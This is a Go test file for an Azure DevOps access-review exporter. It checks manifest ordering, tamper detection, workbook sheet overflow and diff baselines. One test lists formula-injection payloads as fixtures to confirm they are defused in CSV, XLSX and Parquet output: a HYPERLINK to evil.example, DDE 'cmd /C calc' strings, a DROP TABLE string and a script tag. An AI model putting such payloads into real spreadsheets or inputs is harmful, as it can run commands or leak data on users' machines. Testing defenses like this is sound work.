package export

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/parquet-go/parquet-go"
	"github.com/xuri/excelize/v2"

	"github.com/ado-access/ado-access/internal/diff"
	"github.com/ado-access/ado-access/internal/safecsv"
)

// recordingSink wraps a sink and records, in order, every file committed
// and every file deleted.
type recordingSink struct {
	Sink
	mu  sync.Mutex
	ops []string // "commit NAME" or "delete NAME"
}

func (r *recordingSink) note(op string) {
	r.mu.Lock()
	r.ops = append(r.ops, op)
	r.mu.Unlock()
}

func (r *recordingSink) Create(ctx context.Context, name string) (SinkFile, error) {
	f, err := r.Sink.Create(ctx, name)
	if err != nil {
		return nil, err
	}
	return &recordingFile{SinkFile: f, r: r, name: name}, nil
}

func (r *recordingSink) Delete(ctx context.Context, name string) error {
	r.note("delete " + name)
	return r.Sink.Delete(ctx, name)
}

type recordingFile struct {
	SinkFile
	r    *recordingSink
	name string
}

func (f *recordingFile) Commit() error {
	err := f.SinkFile.Commit()
	if err == nil {
		f.r.note("commit " + f.name)
	}
	return err
}

// The old manifest goes first and the new one comes last, after every
// file it lists.
func TestPacketManifestGoesFirstAndComesLast(t *testing.T) {
	f := storeFixture(t, "small")
	dir := t.TempDir()
	ctx := context.Background()
	if _, err := ExportPacket(ctx, f.st, NewLocalSink(dir), PacketOptions{}); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("a reviewer's file"), 0o644)
	rec := &recordingSink{Sink: NewLocalSink(dir)}
	m, err := ExportPacket(ctx, f.st, rec, PacketOptions{Formats: []string{"csv", "xlsx"}})
	if err != nil {
		t.Fatal(err)
	}
	if rec.ops[0] != "delete "+ManifestName {
		t.Fatalf("first operation %q, want the old manifest deleted", rec.ops[0])
	}
	if last := rec.ops[len(rec.ops)-1]; last != "commit "+ManifestName {
		t.Fatalf("last operation %q, want the manifest committed", last)
	}
	for _, file := range m.Files {
		if !slices.Contains(rec.ops[:len(rec.ops)-1], "commit "+file.Path) {
			t.Fatalf("%s was not committed before the manifest: %v", file.Path, rec.ops)
		}
	}
	// The Parquet files of the first packet are gone; other files stay.
	for _, name := range []string{"accounts.parquet", "changes.parquet"} {
		if _, err := os.Stat(filepath.Join(dir, name)); !errors.Is(err, os.ErrNotExist) {
			t.Fatalf("%s of the earlier packet is still there", name)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "notes.txt")); err != nil {
		t.Fatal("a file that is not the packet's was removed")
	}
	rep, err := Verify(ctx, NewLocalSink(dir), "")
	if err != nil || !rep.OK() || len(rep.Unlisted) != 0 {
		t.Fatalf("verify: %+v %v", rep, err)
	}

	// schema.json: listed, every table with its key, columns, types and
	// nullability as the writers have them, review columns named.
	if !slices.ContainsFunc(m.Files, func(f File) bool { return f.Path == SchemaName && f.Format == "json" }) {
		t.Fatal("the manifest does not list schema.json")
	}
	var d DataDictionary
	b, _ := os.ReadFile(filepath.Join(dir, SchemaName))
	if err := json.Unmarshal(b, &d); err != nil || d.SchemaVersion != SchemaVersion || d.Kind != "packet" || d.Partitioning != nil || len(d.Tables) != len(PacketTables) {
		t.Fatalf("schema.json: %v %+v", err, d)
	}
	for i, ts := range d.Tables {
		tbl := PacketTables[i]
		if ts.Name != tbl.Name || ts.Description != tbl.Doc || !slices.Equal(ts.Key, tbl.Key) || len(ts.Columns) != len(tbl.Columns) || (len(ts.ReviewColumns) == 3) != tbl.Review {
			t.Fatalf("schema.json table %d: %+v", i, ts)
		}
		for j, c := range ts.Columns {
			want := tbl.Columns[j]
			if c.Name != want.Name || c.Type != want.Type.String() || c.Nullable != want.Nullable || c.Description != want.Doc || c.Parquet == "" {
				t.Fatalf("schema.json %s column %d: %+v, want %+v", tbl.Name, j, c, want)
			}
		}
		for _, k := range tbl.Key {
			if tbl.Index(k) < 0 || tbl.Columns[tbl.Index(k)].Nullable {
				t.Fatalf("%s: key column %s is missing or nullable", tbl.Name, k)
			}
		}
	}
}

// Changing, truncating or removing any one file makes verify fail.
func TestVerifyCatchesTampering(t *testing.T) {
	f := storeFixture(t, "small")
	ctx := context.Background()
	src := t.TempDir()
	if _, err := ExportPacket(ctx, f.st, NewLocalSink(src), PacketOptions{}); err != nil {
		t.Fatal(err)
	}
	tamper := map[string]func(path string){
		"one byte of a CSV": func(p string) {
			b, _ := os.ReadFile(p)
			i := bytes.IndexByte(b, '\n') + 10
			b[i] ^= 0x01
			os.WriteFile(p, b, 0o644)
		},
		"a Parquet file truncated": func(p string) {
			b, _ := os.ReadFile(p)
			os.WriteFile(p, b[:len(b)-1], 0o644)
		},
		"the workbook replaced": func(p string) { os.WriteFile(p, []byte("PK not a workbook"), 0o644) },
		"a file removed":        func(p string) { os.Remove(p) },
		"a row added": func(p string) {
			fh, _ := os.OpenFile(p, os.O_APPEND|os.O_WRONLY, 0)
			fh.WriteString("x,y\r\n")
			fh.Close()
		},
	}
	files := map[string]string{
		"one byte of a CSV": "accounts.csv", "a Parquet file truncated": "effective_access.parquet",
		"the workbook replaced": WorkbookName, "a file removed": "findings.csv", "a row added": "projects.csv",
	}
	for what, fn := range tamper {
		t.Run(what, func(t *testing.T) {
			dir := t.TempDir()
			if err := os.CopyFS(dir, os.DirFS(src)); err != nil {
				t.Fatal(err)
			}
			fn(filepath.Join(dir, files[what]))
			rep, err := Verify(ctx, NewLocalSink(dir), "")
			if err != nil {
				t.Fatal(err)
			}
			if rep.OK() || len(rep.Problems) != 1 || !strings.HasPrefix(rep.Problems[0], files[what]+": ") {
				t.Fatalf("problems %q, want one about %s", rep.Problems, files[what])
			}
		})
	}
	// A packet without its manifest is not a packet.
	dir := t.TempDir()
	os.CopyFS(dir, os.DirFS(src))
	os.Remove(filepath.Join(dir, ManifestName))
	if _, err := Verify(ctx, NewLocalSink(dir), ""); !errors.Is(err, ErrNoManifest) {
		t.Fatalf("err = %v, want ErrNoManifest", err)
	}
}

// Display names from Azure DevOps are data: in CSV a leading =, +, -, @,
// tab or CR is defused with an apostrophe and comes back exact; in the
// workbook every such value is a plain string; Parquet holds them as
// they are. Quotes, commas, newlines and non-Latin scripts survive.
func TestHostileNamesStayData(t *testing.T) {
	f := storeFixture(t, "small")
	ctx := context.Background()
	dir := t.TempDir()
	if _, err := ExportPacket(ctx, f.st, NewLocalSink(dir), PacketOptions{}); err != nil {
		t.Fatal(err)
	}
	hostile := []string{
		`=HYPERLINK("http://evil.example/?q="&A1,"Click me")`, `+SUM(1,2)`, `-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`, `Smith, John`, `O'Brien "The Hammer"`, "Line one\nLine two",
		"\tTabbed Name", `山田 太郎`, `Иван Петров`, `محمد علي`, `Zoë Ångström-Øster`, `=1+2;DROP TABLE users`,
		`<script>alert(1)</script>`,
	}
	// CSV: the raw text never starts a field with a trigger, and
	// encoding/csv plus the documented unescape gives the names back.
	raw, _ := os.ReadFile(filepath.Join(dir, "accounts.csv"))
	recs, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, rec := range recs[1:] {
		for _, field := range rec {
			if field != "" && strings.ContainsRune("=+-@\t\r", rune(field[0])) {
				t.Fatalf("a CSV field starts with %q: %q", field[0], field)
			}
		}
		names[safecsv.Unescape(rec[2])] = true
	}
	for _, h := range hostile {
		if !names[h] {
			t.Errorf("CSV: display name %q did not come back", h)
		}
	}
	if !bytes.Contains(raw, []byte(`'=HYPERLINK(""http://evil.example/?q=""&A1,""Click me"")`)) {
		t.Error(`CSV: =HYPERLINK(…) is not written as '=HYPERLINK(…)`)
	}

	// Parquet: exact.
	pb, _ := os.ReadFile(filepath.Join(dir, "accounts.parquet"))
	pf, err := parquet.OpenFile(bytes.NewReader(pb), int64(len(pb)))
	if err != nil {
		t.Fatal(err)
	}
	pnames := map[string]bool{}
	rows := make([]parquet.Row, pf.NumRows())
	r := parquet.NewReader(pf)
	n, _ := r.ReadRows(rows)
	for _, row := range rows[:n] {
		pnames[string(row[col(Accounts, "display_name")].ByteArray())] = true
	}
	for _, h := range hostile {
		if !pnames[h] {
			t.Errorf("Parquet: display name %q did not come back", h)
		}
	}

	// XLSX: inline strings equal to the names, no formula, no link.
	wb, err := excelize.OpenFile(filepath.Join(dir, WorkbookName))
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	xrows, _ := wb.GetRows("accounts")
	found := map[string]bool{}
	at := slices.Index(xrows[0], "display_name")
	for i, row := range xrows[1:] {
		cell, _ := excelize.CoordinatesToCellName(at+1, i+2)
		if ct, _ := wb.GetCellType("accounts", cell); ct != excelize.CellTypeInlineString {
			t.Fatalf("accounts!%s is of type %v, want an inline string", cell, ct)
		}
		found[row[at]] = true
	}
	for _, h := range hostile {
		if !found[h] {
			t.Errorf("XLSX: display name %q did not come back", h)
		}
	}
	for _, sh := range wb.GetSheetList() {
		assertNoFormulas(t, wb, sh)
	}
	// No cell in the workbook's sheet XML carries a formula element (the
	// XML read out of the zip: the compressed bytes say nothing).
	zr, err := zip.OpenReader(filepath.Join(dir, WorkbookName))
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, _ := f.Open()
		xml, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(xml, []byte("<f>")) || bytes.Contains(xml, []byte("<f ")) {
			t.Errorf("%s holds a formula element", f.Name)
		}
	}
}

// A table longer than a sheet continues on "name (2)", and nothing is lost.
func TestWorkbookSheetsOverflow(t *testing.T) {
	f := storeFixture(t, "small")
	old := xlsxMaxDataRows
	xlsxMaxDataRows = 40
	defer func() { xlsxMaxDataRows = old }()
	dir := t.TempDir()
	m, err := ExportPacket(context.Background(), f.st, NewLocalSink(dir), PacketOptions{Formats: []string{"csv", "xlsx"}})
	if err != nil {
		t.Fatal(err)
	}
	var xl File
	for _, f := range m.Files {
		if f.Format == FormatXLSX {
			xl = f
		}
	}
	effRows := countOf(m.Tables, "effective_access")
	wantSheets := int((effRows + 39) / 40)
	var sheets []string
	var total int64
	for name, n := range xl.Sheets {
		if name == "effective_access" || strings.HasPrefix(name, "effective_access (") {
			sheets = append(sheets, name)
			total += n
			if n > 40 {
				t.Fatalf("sheet %s holds %d rows, over the limit", name, n)
			}
		}
	}
	if len(sheets) != wantSheets || total != effRows || !slices.Contains(sheets, fmt.Sprintf("effective_access (%d)", wantSheets)) {
		t.Fatalf("effective_access (%d rows) on sheets %v (%d rows), want %d sheets", effRows, sheets, total, wantSheets)
	}
	assertPacketMatchesStore(t, f, f.run2.ID, dirReader{dir}, m)
}

// A packet diffed offline against an earlier packet reports the changes a
// diff of the two runs reports.
func TestPacketBaselineAgreesWithRunBaseline(t *testing.T) {
	f := storeFixture(t, "small")
	ctx := context.Background()
	old := t.TempDir()
	if _, err := ExportPacket(ctx, f.st, NewLocalSink(old), PacketOptions{Options: Options{Run: f.run1.ID}, Formats: []string{"parquet"}}); err != nil {
		t.Fatal(err)
	}
	byRun, byPacket := t.TempDir(), t.TempDir()
	mr, err := ExportPacket(ctx, f.st, NewLocalSink(byRun), PacketOptions{Baseline: Baseline{Run: f.run1.ID}, Formats: []string{"csv"}})
	if err != nil {
		t.Fatal(err)
	}
	mp, err := ExportPacket(ctx, f.st, NewLocalSink(byPacket), PacketOptions{Baseline: Baseline{Packet: NewLocalSink(old)}, Formats: []string{"csv"}})
	if err != nil {
		t.Fatal(err)
	}
	if mp.Baseline.Kind != "packet" || mp.Baseline.Run != f.run1.ID {
		t.Fatalf("baseline %+v", mp.Baseline)
	}
	a := changeLines(t, filepath.Join(byRun, "changes.csv"))
	b := changeLines(t, filepath.Join(byPacket, "changes.csv"))
	if len(a) == 0 {
		t.Fatal("no changes between the runs")
	}
	if !slices.Equal(a, b) {
		t.Fatalf("changes since run %d (%d) and since its packet (%d) differ:\n%s\n---\n%s",
			f.run1.ID, len(a), len(b), strings.Join(a, "\n"), strings.Join(b, "\n"))
	}
	if countOf(mr.Tables, "changes") != int64(len(a)) {
		t.Fatal("manifest row count of changes is off")
	}

	// A baseline packet that was edited, or never finished, is refused.
	edited := filepath.Join(old, "groups.parquet")
	b0, _ := os.ReadFile(edited)
	os.WriteFile(edited, append(b0[:len(b0)-9:len(b0)-9], []byte("tampered!")...), 0o644)
	if _, err := ExportPacket(ctx, f.st, NewLocalSink(t.TempDir()), PacketOptions{Baseline: Baseline{Packet: NewLocalSink(old)}, Formats: []string{"csv"}}); !errors.Is(err, ErrUnverified) {
		t.Fatalf("edited baseline: %v, want ErrUnverified", err)
	}
	os.Remove(filepath.Join(old, ManifestName))
	if _, err := ExportPacket(ctx, f.st, NewLocalSink(t.TempDir()), PacketOptions{Baseline: Baseline{Packet: NewLocalSink(old)}, Formats: []string{"csv"}}); err == nil || !strings.Contains(err.Error(), "no manifest.json") {
		t.Fatalf("baseline without a manifest: %v", err)
	}
}

func changeLines(t *testing.T, path string) []string {
	t.Helper()
	fh, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer fh.Close()
	r := csv.NewReader(fh)
	if _, err := r.Read(); err != nil { // the header
		t.Fatal(err)
	}
	var out []string
	for {
		rec, err := r.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, strings.Join(rec[:4], " | ")+" | "+rec[6])
	}
	slices.Sort(out)
	return out
}

// Every table internal/diff compares offline is in the packet, with every
// column the diff reads, under the diff's names.
func TestPacketCarriesTheDiffContract(t *testing.T) {
	for _, pt := range diff.PacketTables {
		tbl := TableByName(pt.Name)
		if tbl == nil {
			t.Errorf("the packet has no %s table", pt.Name)
			continue
		}
		for _, c := range pt.Columns() {
			i := tbl.Index(c.Name)
			if i < 0 {
				t.Errorf("%s has no column %s", pt.Name, c.Name)
				continue
			}
			switch got := tbl.Columns[i].Type; c.Type {
			case diff.Flag:
				if got != Bool {
					t.Errorf("%s.%s is a %s, the diff reads a flag", pt.Name, c.Name, got)
				}
			case diff.Time:
				if got != Timestamp {
					t.Errorf("%s.%s is a %s, the diff reads an instant", pt.Name, c.Name, got)
				}
			}
		}
	}
}

// A manifest whose table row counts or organization name were edited does
// not verify, though every file still matches its hash.
func TestVerifyFindsAnEditedManifest(t *testing.T) {
	t.Parallel()
	f := storeFixture(t, "small")
	ctx := context.Background()
	dir := t.TempDir()
	if _, err := ExportPacket(ctx, f.st, NewLocalSink(dir), PacketOptions{Options: Options{Run: f.run2.ID}}); err != nil {
		t.Fatal(err)
	}
	mpath := filepath.Join(dir, ManifestName)
	orig, _ := os.ReadFile(mpath)
	for name, edit := range map[string]func(m *Manifest){
		"tables n": func(m *Manifest) { m.Tables[0].N++ },
		"org_name": func(m *Manifest) { m.OrgName = "contoso" },
	} {
		m, err := ParseManifest(orig)
		if err != nil {
			t.Fatal(err)
		}
		edit(m)
		b, _ := m.encode()
		os.WriteFile(mpath, b, 0o644)
		rep, err := Verify(ctx, NewLocalSink(dir), "")
		if err != nil || rep.OK() || !strings.HasPrefix(rep.Problems[0], ManifestName+": ") {
			t.Errorf("%s edited: %v %+v", name, err, rep)
		}
	}
}
